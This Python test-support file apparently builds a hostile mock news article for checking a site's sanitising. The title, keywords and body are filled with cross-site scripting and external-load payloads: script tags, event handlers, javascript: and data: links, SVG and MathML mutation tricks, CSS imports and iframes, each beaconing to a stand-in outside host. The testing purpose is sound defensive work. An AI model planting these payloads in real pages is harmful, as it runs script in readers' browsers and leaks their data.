"""An article that tries everything: script, pictures, styles, frames and links, in every place that it has."""

from __future__ import annotations

from msgspec.structs import replace

from mocksite.story import Story
from tests.support.browser import OUTSIDE

EVIL = f"http://{OUTSIDE}"
MARK = "marked"  # a variable of the window's that a script of this article sets
SCRIPT = f"window.{MARK}=1;console.log('{MARK}');new Image().src='{EVIL}/script';alert('{MARK}')"
WORDS = f'"\'></title></a></td><script>{SCRIPT}</script><img src={EVIL}/words onerror="{SCRIPT}">茅台'
BODY = f"""<p>　　茅台的正文从这里开始，长到可以成为一篇文章的正文，再长一些，再长一些，再长一些。</p>
<script>{SCRIPT}</script><script src="{EVIL}/script.js"></script>
<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script>
<image href="{EVIL}/svg-image" width="9" height="9"/><use href="{EVIL}/use.svg#a"/>
<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{SCRIPT}"></body></foreignObject>
<animate onbegin="{SCRIPT}" attributeName="x" dur="1s"/></svg>
<style>@import url("{EVIL}/import.css"); body {{ background: url({EVIL}/style-background) }}
@font-face {{ font-family: f; src: url({EVIL}/font) }} p {{ font-family: f }}</style>
<link rel="stylesheet" href="{EVIL}/link.css"><link rel="prefetch" href="{EVIL}/prefetch">
<link rel="preconnect" href="{EVIL}"><link rel="icon" href="{EVIL}/icon">
<meta http-equiv="refresh" content="0;url={EVIL}/refresh"><base href="{EVIL}/base/">
<p style="background:url({EVIL}/style-attribute)" onmouseover="{SCRIPT}" onclick="{SCRIPT}" id="hover">一段</p>
<iframe src="{EVIL}/frame"></iframe><iframe srcdoc="<script>parent.{MARK}=1</script><img src={EVIL}/srcdoc>"></iframe>
<object data="{EVIL}/object"></object><embed src="{EVIL}/embed">
<video src="{EVIL}/video" poster="{EVIL}/poster" autoplay></video><audio src="{EVIL}/audio" autoplay></audio>
<img src="{EVIL}/image" srcset="{EVIL}/srcset 2x" onerror="{SCRIPT}">
<picture><source srcset="{EVIL}/source"><img></picture>
<input type="image" src="{EVIL}/input" autofocus onfocus="{SCRIPT}">
<table background="{EVIL}/table"><tr><td>格</table>
<details open ontoggle="{SCRIPT}"><summary>折</summary></details><marquee onstart="{SCRIPT}">走</marquee>
<form action="{EVIL}/form" id="f"><button>寄</button></form>
<a href="javascript:{SCRIPT.replace('"', "&quot;")}" class="trap">脚本链接</a>
<a href="data:text/html,<script>opener.{MARK}=1</script>" class="trap">数据链接</a>
<a href="vbscript:x" ping="{EVIL}/ping" class="trap">链接</a>
<math><mtext><table><mglyph><style><!--</style>
<img title="--&gt;&lt;img src={EVIL}/mutation onerror={MARK}=1&gt;"></table></mtext></math>
<noscript><p title="</noscript><img src={EVIL}/noscript onerror={MARK}=1>"></noscript>"""
PAGE = f"<!DOCTYPE html><meta charset=utf-8><title>{WORDS}</title><p>{WORDS}</p>{BODY}"


def hostile(story: Story) -> Story:
    """The same article, of other words."""
    return replace(
        story, title=WORDS, media=WORDS, keywords=(WORDS, f"javascript:{SCRIPT}"), body=BODY, page_layout="finance"
    )
